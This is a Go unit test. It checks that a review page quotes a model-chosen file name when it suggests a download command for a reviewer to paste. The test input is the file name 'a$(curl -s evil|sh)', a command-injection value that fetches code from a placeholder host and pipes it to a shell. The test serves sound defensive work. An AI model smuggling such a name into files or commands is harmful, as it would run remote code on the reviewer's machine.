package approval

import (
	"bytes"
	"strings"
	"testing"
)

// The command a file's page suggests names the file as one shell word:
// the model chose the name, and a reviewer pastes the command.
func TestFilePageQuotesTheCommandsPath(t *testing.T) {
	for _, v := range []fileView{
		{File: "a$(curl -s evil|sh)", Seq: 1, Size: 10, Binary: true},
		{File: "a$(curl -s evil|sh)", Seq: 1, Size: 10, Text: "x", Shown: 1},
	} {
		var b bytes.Buffer
		if err := pages.ExecuteTemplate(&b, "file.html", v); err != nil {
			t.Fatal(err)
		}
		want := "get &#39;/workspace/a$(curl -s evil|sh)&#39; -o FILE"
		if !strings.Contains(b.String(), want) {
			t.Errorf("the page does not suggest %s:\n%s", want, b.String())
		}
	}
}
